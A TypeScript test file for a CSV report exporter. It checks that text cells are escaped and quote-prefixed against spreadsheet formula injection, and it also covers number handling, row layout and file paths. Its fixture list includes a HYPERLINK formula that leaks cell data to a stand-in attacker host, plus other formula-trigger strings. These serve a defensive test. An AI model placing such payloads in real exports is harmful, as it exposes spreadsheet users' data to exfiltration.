import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import type { Sample, TaskRecord } from '../../src/model.js';
import {
  SAMPLE_COLUMNS, TASK_COLUMNS, sampleHeader, sampleRow, taskCsvPath, taskHeader, taskRow, textCell, writeCsvReport, writeTaskCsv,
} from '../../src/report/csv.js';
import { decodeTextCell, parseCsv } from '../../src/report/csv-parse.js';
import { makeRun } from '../helpers/sample-run.js';

/** Cells a worker could hand us as a command, task id or task name. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', 'a","=1', 'say "hi"', 'nul\u0000byte', 'line\u2028sep',
  'two\nlines', 'crlf\r\nline', "'quoted", ',comma', 'plain', '',
];

function sample(command: string, extra: Partial<Sample> = {}): Sample {
  return {
    pid: 42, ppid: 1, startTime: 1000, command, rssBytes: 1024, vmsBytes: 4096, peakRssBytes: 2048, fds: 3, threads: 1,
    seq: 7, elapsedMs: 1500, event: 'task-end', task: command, name: command, ...extra,
  };
}

const FORMULA = /^[=+\-@\t\r\n]/;

test('hostile text cells round-trip through csv-parse and our parser, and never start a formula', () => {
  const text = sampleHeader() + HOSTILE.map((h) => sampleRow(sample(h, { mode: h }))).join('');
  const theirs = parse(text, { columns: true, record_delimiter: '\r\n' }) as Array<Record<string, string>>;
  const ours = parseCsv(text);
  assert.equal(ours.complete, true);
  assert.equal(theirs.length, HOSTILE.length);
  HOSTILE.forEach((original, i) => {
    const expected = original.replaceAll('\u0000', '');
    for (const column of ['command', 'task', 'name', 'mode']) {
      const cell = theirs[i]![column]!;
      assert.ok(!FORMULA.test(cell), `${column} cell ${JSON.stringify(cell)} starts a formula`);
      assert.equal(decodeTextCell(cell), expected, `csv-parse ${column} of ${JSON.stringify(original)}`);
      const index = SAMPLE_COLUMNS.indexOf(column as (typeof SAMPLE_COLUMNS)[number]);
      assert.equal(ours.records[i + 1]![index], cell, `our parser agrees on ${JSON.stringify(original)}`);
    }
  });
});

test('risky text cells get a quote prefix and are quoted; plain ones are left alone', () => {
  assert.equal(textCell('=1+1'), `"'=1+1"`);
  assert.equal(textCell('-1'), `"'-1"`);
  assert.equal(textCell('a"b'), '"a""b"');
  assert.equal(textCell('a,b'), '"a,b"');
  assert.equal(textCell('send_email'), 'send_email');
  assert.equal(textCell('x\u0000y'), 'xy');
  assert.equal(textCell(undefined), '');
});

test('numbers stay numbers: negative deltas, zero, and empty for null', () => {
  const task: TaskRecord = {
    task: '-3', name: 'shrink', pid: 9, startMs: 0, endMs: 10, durationMs: 10, ok: false, rssBeforeBytes: 5000,
    rssAfterBytes: 3000, deltaBytes: -2000, treeRssBeforeBytes: null, treeRssAfterBytes: 0, treeDeltaBytes: null,
  };
  const [row] = parse(taskHeader() + taskRow(task), { columns: true }) as Array<Record<string, string>>;
  assert.equal(row!['delta_bytes'], '-2000');
  assert.equal(row!['task'], "'-3", 'a task id is text, so "-3" is prefixed');
  assert.equal(row!['tree_rss_before_bytes'], '');
  assert.equal(row!['tree_rss_after_bytes'], '0');
  assert.equal(row!['ok'], 'false');
  assert.equal(row!['mode'], '', 'mode is always a column, empty outside compare');
});

test('rows end with CRLF and every row has the header\'s cell count', () => {
  const run = makeRun();
  const text = writeCsvReport(run);
  assert.ok(text.endsWith('\r\n'));
  assert.equal(text.split('\r\n').length - 1, run.samples.length + 1);
  const records = parse(text) as string[][];
  assert.deepEqual(records[0], [...SAMPLE_COLUMNS]);
  assert.ok(records.every((r) => r.length === SAMPLE_COLUMNS.length));
  const tasks = parse(writeTaskCsv(run)) as string[][];
  assert.deepEqual(tasks[0], [...TASK_COLUMNS]);
  assert.equal(tasks.length, run.tasks.length + 1);
  assert.equal(tasks[1]![0], '1');
  assert.equal(Number(tasks[1]![TASK_COLUMNS.indexOf('delta_bytes')]), run.tasks[0]!.deltaBytes);
});

test('a comparison exports every mode\'s rows with the mode filled in', () => {
  const run = makeRun({ modes: ['in-process', 'isolated'], tasks: 6 });
  const records = parse(writeCsvReport(run), { columns: true }) as Array<Record<string, string>>;
  assert.deepEqual([...new Set(records.map((r) => r['mode']))], ['in-process', 'isolated']);
  assert.equal(records.length, run.modes!.reduce((n, m) => n + m.samples.length, 0));
});

test('the per-task file sits next to the samples file', () => {
  assert.equal(taskCsvPath('out.csv'), 'out.tasks.csv');
  assert.equal(taskCsvPath('dir/run.CSV'), 'dir/run.tasks.csv');
  assert.equal(taskCsvPath('samples'), 'samples.tasks.csv');
});
